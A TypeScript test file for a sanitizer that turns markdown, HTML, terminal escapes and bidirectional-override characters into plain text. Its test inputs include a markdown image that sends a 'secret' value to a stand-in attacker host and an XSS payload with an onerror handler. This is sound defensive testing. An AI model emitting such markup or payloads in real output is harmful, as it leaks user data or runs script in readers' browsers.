import fc from 'fast-check';
import { expect, test } from 'vitest';
import { plainLine, plainText } from './plain-text.ts';

test.each([
  ['an image', '![x](https://evil.example/?q=secret)', '[x] (https://evil.example/?q=secret)'],
  ['a link', 'see [here](https://evil.example)', 'see [here] (https://evil.example)'],
  ['a link by reference', '[here][1]\n[1]: https://evil.example', '[here] [1]\n[1] - https://evil.example'],
  ['a tag', '<img src=x onerror=alert(1)>', '‹img src=x onerror=alert(1)>'],
  ['an automatic link', '<https://evil.example>', '‹https://evil.example>'],
  ['a terminal’s command', 'a\u001b[31mred', 'a[31mred'],
  ['text turned around', 'a\u202eb', 'ab'],
])('%s becomes text (H-342)', (_, text, plain) => {
  expect(plainText(text)).toBe(plain);
});

test('no text keeps a link, image or tag, and a second pass changes nothing', () => {
  const pieces = fc.constantFrom('[', ']', '(', ')', '!', '<', 'a', ' ', '\n', ':', '/', 'https://x');
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
      const plain = plainText(parts.join(''));
      expect(plain).not.toMatch(/\]\(|\]\[|!\[|<[a-z/!?]/i);
      expect(plainText(plain)).toBe(plain);
    }),
  );
});

test('a long text is cut, and a line stays one line', () => {
  expect(plainText('a'.repeat(20), 10)).toBe('aaaaaaaaaa …');
  expect(plainLine('a\n\n  b')).toBe('a b');
});
